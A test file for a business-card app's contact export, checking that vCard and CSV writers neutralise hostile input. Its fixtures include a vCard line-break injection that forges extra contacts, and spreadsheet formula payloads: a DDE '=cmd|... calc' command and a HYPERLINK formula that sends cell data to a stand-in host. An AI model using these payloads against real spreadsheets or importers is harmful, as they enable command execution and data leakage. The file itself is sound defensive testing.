import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { emptyFields, type ContactFields, type SavedContact } from '../../shared/contact.js';
import { splitAddress } from '../../main/export/address.js';
import { csvCell, toCsv, toGoogleCsv, toOutlookCsv } from '../../main/export/csv.js';
import { renderExport } from '../../main/export/export.js';
import { safeUrl } from '../../main/export/text.js';
import { toVCard21, toVCard30 } from '../../main/export/vcard-writer.js';
import { parsePayload } from '../../main/recognize/vcard.js';
import { readCsv, readWithVobject } from '../independent-parsers.js';
import { tempDir } from '../helpers.js';

const dir = tempDir('bizcard-export-');
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
let n = 0;
function vobject(text: string) {
  const file = path.join(dir, `${n++}.vcf`);
  fs.writeFileSync(file, text);
  return readWithVobject(file);
}

function saved(fields: Partial<ContactFields>, extra: Partial<SavedContact> = {}): SavedContact {
  return {
    ...emptyFields(),
    ...fields,
    uid: '01930000-0000-7000-8000-000000000001',
    tags: [],
    event: '',
    recognitionMethod: 'qr',
    confidence: {},
    imageHash: null,
    qrPayload: null,
    createdAt: '2026-11-25T10:00:00.000Z',
    updatedAt: '2026-11-25T10:00:00.000Z',
    version: 1,
    serverId: null,
    objectKey: null,
    ...extra,
  };
}

/** A QR code's vCard whose escaped \n inside URL, TEL and EMAIL would end the card and start a forged one. */
const HOSTILE_QR = [
  'BEGIN:VCARD',
  'VERSION:3.0',
  'FN:Alice Smith',
  'URL:https://x\\nEND:VCARD\\nBEGIN:VCARD\\nFN:Bob Boss (CEO)\\nTEL:+15550000\\nEND:VCARD',
  'EMAIL:alice@example.com\\r\\nEND:VCARD\\r\\nBEGIN:VCARD\\r\\nFN:Eve',
  'END:VCARD',
].join('\n');

// A 1x1 JPEG's first bytes are enough for vobject to carry; the PHOTO value is base64 of whatever we give.
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(300, 7), Buffer.from([0xff, 0xd9])]);

const RU: SavedContact = saved(
  {
    name: 'Иван Петрович Сидоров',
    givenName: 'Иван',
    middleName: 'Петрович',
    familyName: 'Сидоров',
    title: 'Генеральный директор',
    company: 'ООО «Ромашка», Москва; филиал',
    department: 'Отдел продаж',
    phones: [
      { value: '+74951234567', kind: 'work', ext: '123' },
      { value: '+79161234567', kind: 'mobile' },
      { value: '+74951234568', kind: 'fax' },
    ],
    emails: ['ivan@romashka.ru', 'sales@romashka.ru'],
    websites: ['romashka.ru', 'https://пример.рф/путь'],
    address: '123456, г. Москва, ул. Тверская, д. 1, офис 5',
    notes: 'Встреча на выставке;\nперезвонить в понедельник, 10:00 \\ важно',
  },
  { tags: ['горячий', 'vip'], event: 'Expo 2026' },
);

describe('vCard export against a hostile QR code (issue 8)', () => {
  const forged = saved({ ...parsePayload(HOSTILE_QR).fields, phones: [{ value: '+1555\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Tel', kind: 'work' }] });

  it('the parsed QR really carries line breaks in URL, TEL and EMAIL', () => {
    expect(forged.websites[0]).toContain('\nBEGIN:VCARD');
    expect(forged.emails[0]).toMatch(/\n/);
    expect(forged.phones[0]!.value).toContain('\r\n');
  });

  for (const [version, write] of [
    ['3.0', toVCard30],
    ['2.1', toVCard21],
  ] as const) {
    it(`vCard ${version}: one card comes back, named Alice, with no forged contact`, () => {
      const text = write(forged);
      expect(text.match(/^BEGIN:VCARD/gm)).toHaveLength(1);
      expect(text.match(/^END:VCARD/gm)).toHaveLength(1);
      // No bare CR or LF: every line ends CRLF.
      expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      const cards = vobject(text + text);
      expect(cards).toHaveLength(2);
      expect(cards[0]!.fn).toBe('Alice Smith');
      expect(cards.map((c) => c.fn)).not.toContain('Bob Boss (CEO)');
      expect(cards[0]!.url[0]).toMatch(/^https:\/\/x%0AEND:VCARD%0ABEGIN:VCARD%0AFN:Bob%20Boss%20\(CEO\)/);
      expect(cards[0]!.tel[0]!.value).not.toMatch(/[\r\n]/);
    });
  }

  it('a carriage return alone cannot end a line either', () => {
    const text = toVCard30(saved({ name: 'A\rEND:VCARD\rBEGIN:VCARD\rFN:Mallory', notes: 'x\ry' }));
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\r/);
    const [card] = vobject(text);
    expect(card!.fn).toBe('A END:VCARD BEGIN:VCARD FN:Mallory');
    expect(card!.note).toBe('x\ny');
  });

  it('vCard 2.1 quoted-printable never breaks inside a character and no line passes 76 characters', () => {
    const notes = 'Ж'.repeat(7) + 'ё' + 'Щ中'.repeat(80);
    const text = toVCard21(saved({ name: 'Тест', notes }));
    const lines = text.split('\r\n');
    expect(Math.max(...lines.map((l) => l.length))).toBeLessThanOrEqual(76);
    const noteStart = lines.findIndex((l) => l.startsWith('NOTE;'));
    const qpLines = [lines[noteStart]!.slice(lines[noteStart]!.indexOf(':') + 1)];
    for (let i = noteStart; lines[i]!.endsWith('='); i++) qpLines.push(lines[i + 1]!);
    expect(qpLines.length).toBeGreaterThan(5);
    // Each physical line decodes to whole UTF-8 characters by itself.
    const strict = new TextDecoder('utf-8', { fatal: true });
    for (const l of qpLines) {
      const bytes = Buffer.from(l.replace(/=$/, '').replace(/=([0-9A-F]{2})|([^=])/g, (_, hex, ch) => (hex ? String.fromCharCode(parseInt(hex, 16)) : ch)), 'latin1');
      expect(() => strict.decode(bytes)).not.toThrow();
    }
    expect(vobject(text)[0]!.note).toBe(notes);
  });
});

describe('vCard export read back by python-vobject', () => {
  it('3.0: structured ADR, URL with a scheme, PHOTO, CATEGORIES, NOTE, typed TEL, Cyrillic intact', () => {
    const [c] = vobject(renderExport('vcf', [RU], () => ({ mime: 'image/jpeg', bytes: JPEG })));
    expect(c!.version).toBe('3.0');
    expect(c!.fn).toBe('Иван Петрович Сидоров');
    expect(c!.n).toEqual(['Сидоров', 'Иван', 'Петрович']);
    expect(c!.org).toEqual([['ООО «Ромашка», Москва; филиал', 'Отдел продаж']]);
    expect(c!.title).toBe('Генеральный директор');
    expect(c!.tel).toEqual([
      { value: '+74951234567 ext. 123', type: ['VOICE', 'WORK'] },
      { value: '+79161234567', type: ['CELL'] },
      { value: '+74951234568', type: ['FAX', 'WORK'] },
    ]);
    expect(c!.email).toEqual(['ivan@romashka.ru', 'sales@romashka.ru']);
    expect(c!.url).toEqual(['https://romashka.ru/', 'https://xn--e1afmkfd.xn--p1ai/%D0%BF%D1%83%D1%82%D1%8C']);
    expect(c!.adr).toEqual({ street: 'ул. Тверская, д. 1, офис 5', city: 'Москва', region: '', code: '123456', country: '' });
    expect(c!.label).toBe(RU.address);
    expect(c!.note).toBe(RU.notes);
    expect(c!.categories).toEqual([['Expo 2026', 'горячий', 'vip']]);
    expect(c!.uid).toBe(`urn:uuid:${RU.uid}`);
    expect(c!.photo).toBe(JPEG.length);
    expect(c!.photo_head).toBe('ffd8ffe0');
  });

  it('2.1: the same fields through quoted-printable UTF-8, photo included', () => {
    const [c] = vobject(renderExport('vcf21', [RU], () => ({ mime: 'image/jpeg', bytes: JPEG })));
    expect(c!.version).toBe('2.1');
    expect(c!.fn).toBe('Иван Петрович Сидоров');
    expect(c!.n).toEqual(['Сидоров', 'Иван', 'Петрович']);
    expect(c!.title).toBe('Генеральный директор');
    expect(c!.tel.map((t) => t.value)).toEqual(['+74951234567 ext. 123', '+79161234567', '+74951234568']);
    expect(c!.tel[1]!.type).toEqual(['CELL']);
    expect(c!.email).toEqual(['ivan@romashka.ru', 'sales@romashka.ru']);
    expect(c!.url[0]).toBe('https://romashka.ru/');
    expect(c!.adr).toEqual({ street: 'ул. Тверская, д. 1, офис 5', city: 'Москва', region: '', code: '123456', country: '' });
    expect(c!.categories).toEqual([['Expo 2026', 'горячий', 'vip']]);
    expect(c!.org).toEqual([['ООО «Ромашка», Москва; филиал', 'Отдел продаж']]);
    expect(c!.note).toBe(RU.notes.replace(/\n/g, '\r\n'));
    expect(c!.photo).toBe(JPEG.length);
  });

  it('photos can be left out', () => {
    expect(renderExport('vcf', [RU])).not.toMatch(/PHOTO/);
    expect(renderExport('vcf21', [RU], () => null)).not.toMatch(/PHOTO/);
  });

  it('FN is never empty: the company, then the e-mail, in 2.1 as in 3.0', () => {
    for (const write of [toVCard30, toVCard21]) {
      expect(vobject(write(saved({ company: 'Ромашка' })))[0]!.fn).toBe('Ромашка');
      expect(vobject(write(saved({ emails: ['info@x.example'] })))[0]!.fn).toBe('info@x.example');
      expect(vobject(write(saved({ givenName: 'Olivia', familyName: 'Collins' })))[0]!.fn).toBe('Olivia Collins');
    }
  });

  it('URLs get a scheme and keep their meaning', () => {
    expect(safeUrl('acme.com/team')).toBe('https://acme.com/team');
    expect(safeUrl('http://acme.com/a,b;c')).toBe('http://acme.com/a%2Cb%3Bc');
    expect(safeUrl('  www.acme.com ')).toBe('https://www.acme.com/');
    expect(safeUrl('')).toBe('');
  });
});

describe('CSV exports', () => {
  it('neutralises every formula start, including + followed by a digit (issue 8)', () => {
    const hostile = ['+1+HYPERLINK("http://x.example/?"&A1)', '=1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '+1 (415) 555-0132 =HYPERLINK'];
    for (const v of hostile) expect(csvCell(v)).toMatch(/^"'/);
    // A plain phone number is not a formula and stays importable.
    expect(csvCell('+1 (415) 555-0132')).toBe('+1 (415) 555-0132');
    expect(csvCell('+74951234567')).toBe('+74951234567');
  });

  it('a hostile QR through the desk CSV: the cells read back start with an apostrophe', () => {
    const c = saved({ name: '=cmd|" /C calc"!A0', company: '+1+HYPERLINK("http://x.example/?"&A1)', phones: [{ value: '+14155550132', kind: 'work' }], notes: '@SUM(1)\n=2' });
    const [row] = readCsv(toCsv([c]));
    expect(row!['Name']).toBe(`'=cmd|" /C calc"!A0`);
    expect(row!['Company']).toBe(`'+1+HYPERLINK("http://x.example/?"&A1)`);
    expect(row!['Notes']).toBe(`'@SUM(1)\n=2`);
    expect(row!['Work phone']).toBe('+14155550132');
  });

  it('Google CSV: one value per column, numbered groups, split address, Cyrillic intact', () => {
    const other = saved({ name: 'Olivia Collins', givenName: 'Olivia', familyName: 'Collins', company: 'Bluefin', phones: [{ value: '+16175550126', kind: 'work' }], address: '350 Mission Street, Suite 200, San Francisco, CA 94105, USA' });
    const text = toGoogleCsv([RU, other]);
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    const rows = readCsv(text);
    expect(rows).toHaveLength(2);
    const r = rows[0]!;
    expect(r['Name']).toBe('Иван Петрович Сидоров');
    expect(r['Given Name']).toBe('Иван');
    expect(r['Additional Name']).toBe('Петрович');
    expect(r['Family Name']).toBe('Сидоров');
    expect(r['Organization 1 - Name']).toBe('ООО «Ромашка», Москва; филиал');
    expect(r['Organization 1 - Title']).toBe('Генеральный директор');
    expect(r['Organization 1 - Department']).toBe('Отдел продаж');
    expect([r['Phone 1 - Type'], r['Phone 1 - Value']]).toEqual(['Work', '+74951234567 ext. 123']);
    expect([r['Phone 2 - Type'], r['Phone 2 - Value']]).toEqual(['Mobile', '+79161234567']);
    expect([r['Phone 3 - Type'], r['Phone 3 - Value']]).toEqual(['Work Fax', '+74951234568']);
    expect([r['E-mail 1 - Value'], r['E-mail 2 - Value']]).toEqual(['ivan@romashka.ru', 'sales@romashka.ru']);
    expect([r['Website 1 - Value'], r['Website 2 - Value']]).toEqual(['https://romashka.ru/', 'https://xn--e1afmkfd.xn--p1ai/%D0%BF%D1%83%D1%82%D1%8C']);
    expect(r['Address 1 - City']).toBe('Москва');
    expect(r['Address 1 - Postal Code']).toBe('123456');
    expect(r['Address 1 - Street']).toBe('ул. Тверская, д. 1, офис 5');
    expect(r['Group Membership']).toBe('* myContacts ::: Expo 2026 ::: горячий ::: vip');
    expect(r['Notes']).toBe(RU.notes);
    const o = rows[1]!;
    expect(o['Phone 2 - Value']).toBe('');
    expect([o['Address 1 - Street'], o['Address 1 - City'], o['Address 1 - Region'], o['Address 1 - Postal Code'], o['Address 1 - Country']]).toEqual(['350 Mission Street, Suite 200', 'San Francisco', 'CA', '94105', 'USA']);
    for (const cell of Object.values(r)) expect(cell).not.toMatch(/; \S+@/);
  });

  it('Outlook CSV: its column names, one value per column, what has no slot kept in Notes', () => {
    const many = saved({
      givenName: 'Anna',
      familyName: 'Berg',
      title: 'CTO',
      phones: [
        { value: '+4930111', kind: 'work' },
        { value: '+4930222', kind: 'work' },
        { value: '+4930333', kind: 'work' },
        { value: '+4930444', kind: 'work' },
        { value: '+49170555', kind: 'mobile' },
        { value: '+4930666', kind: 'fax' },
      ],
      emails: ['a@x.de', 'b@x.de', 'c@x.de', 'd@x.de'],
      websites: ['x.de', 'y.de'],
      address: 'Friedrichstraße 123, 10117 Berlin, Germany',
    });
    const text = toOutlookCsv([RU, many]);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const [r, m] = readCsv(text);
    expect(r!['First Name']).toBe('Иван');
    expect(r!['Last Name']).toBe('Сидоров');
    expect(r!['Job Title']).toBe('Генеральный директор');
    expect(r!['Business Phone']).toBe('+74951234567 ext. 123');
    expect(r!['Mobile Phone']).toBe('+79161234567');
    expect(r!['Business Fax']).toBe('+74951234568');
    expect(r!['E-mail Address']).toBe('ivan@romashka.ru');
    expect(r!['E-mail 2 Address']).toBe('sales@romashka.ru');
    expect(r!['Business City']).toBe('Москва');
    expect(r!['Categories']).toBe('Expo 2026;горячий;vip');
    expect([m!['Business Phone'], m!['Business Phone 2'], m!['Other Phone'], m!['Mobile Phone'], m!['Business Fax']]).toEqual(['+4930111', '+4930222', '+4930333', '+49170555', '+4930666']);
    expect(m!['E-mail 3 Address']).toBe('c@x.de');
    expect(m!['Web Page']).toBe('https://x.de/');
    expect(m!['Notes']).toBe('Phone (work): +4930444\nE-mail: d@x.de\nWebsite: https://y.de/');
    expect([m!['Business Street'], m!['Business Postal Code'], m!['Business City'], m!['Business Country/Region']]).toEqual(['Friedrichstraße 123', '10117', 'Berlin', 'Germany']);
  });
});

describe('address splitting', () => {
  const cases: [string, string, string, string, string, string][] = [
    // input, street, city, region, postcode, country
    ['350 Mission Street, Suite 200, San Francisco, CA 94105, USA', '350 Mission Street, Suite 200', 'San Francisco', 'CA', '94105', 'USA'],
    ['350 Mission Street\nSuite 200\nSan Francisco, CA 94105', '350 Mission Street, Suite 200', 'San Francisco', 'CA', '94105', ''],
    ['1600 Amphitheatre Parkway, Mountain View CA 94043', '1600 Amphitheatre Parkway', 'Mountain View', 'CA', '94043', ''],
    ['10 Downing Street, London SW1A 2AA, United Kingdom', '10 Downing Street', 'London', '', 'SW1A 2AA', 'United Kingdom'],
    ['221B Baker Street\nLondon\nNW1 6XE', '221B Baker Street', 'London', '', 'NW1 6XE', ''],
    ['123456, г. Москва, ул. Тверская, д. 1, офис 5', 'ул. Тверская, д. 1, офис 5', 'Москва', '', '123456', ''],
    ['Россия, 190000, Санкт-Петербург, Невский пр., 28', 'Невский пр., 28', 'Санкт-Петербург', '', '190000', 'Россия'],
    ['ул. Ленина, 5, Москва, 101000', 'ул. Ленина, 5', 'Москва', '', '101000', ''],
    ['Московская область, г. Химки, ул. Ленина, 1', 'ул. Ленина, 1', 'Химки', 'Московская область', '', ''],
    ['〒100-0005 東京都千代田区丸の内1-1-1', '丸の内1-1-1', '千代田区', '東京都', '100-0005', ''],
    ['〒100-0005\n東京都千代田区丸の内1-1-1\n丸の内ビル 5F', '丸の内1-1-1, 丸の内ビル 5F', '千代田区', '東京都', '100-0005', ''],
    ['1-1-1 Marunouchi, Chiyoda-ku, Tokyo 100-0005, Japan', '1-1-1 Marunouchi', 'Chiyoda-ku', 'Tokyo', '100-0005', 'Japan'],
    ['Friedrichstraße 123, 10117 Berlin, Germany', 'Friedrichstraße 123', 'Berlin', '', '10117', 'Germany'],
    ['12 rue de Rivoli, 75001 Paris, France', '12 rue de Rivoli', 'Paris', '', '75001', 'France'],
    ['Damrak 1, 1012 LG Amsterdam, Netherlands', 'Damrak 1', 'Amsterdam', '', '1012 LG', 'Netherlands'],
    ['ul. Marszałkowska 10, 00-950 Warszawa, Polska', 'ul. Marszałkowska 10', 'Warszawa', '', '00-950', 'Polska'],
    ['Via Roma 1, 00100 Roma RM, Italia', 'Via Roma 1', 'Roma', 'RM', '00100', 'Italia'],
    ['100 King St W, Toronto, ON M5X 1A9, Canada', '100 King St W', 'Toronto', 'ON', 'M5X 1A9', 'Canada'],
    ['Main Street 5, Springfield', 'Main Street 5', 'Springfield', '', '', ''],
    ['somewhere', 'somewhere', '', '', '', ''],
  ];
  it.each(cases)('%j', (input, street, city, region, postcode, country) => {
    expect(splitAddress(input)).toEqual({ street, city, region, postcode, country });
  });

  it('loses no text: every character of the input (but separators and the "г." / "〒" markers) is in some part', () => {
    const count = (s: string) => {
      const m = new Map<string, number>();
      for (const ch of s.replace(/(^|\s)г\.|〒|[\s,]/g, '')) m.set(ch, (m.get(ch) ?? 0) + 1);
      return m;
    };
    for (const [input] of cases) {
      const out = count(Object.values(splitAddress(input)).join(' '));
      for (const [ch, k] of count(input)) expect(out.get(ch) ?? 0, `${ch} in ${input}`).toBeGreaterThanOrEqual(k);
    }
  });
});
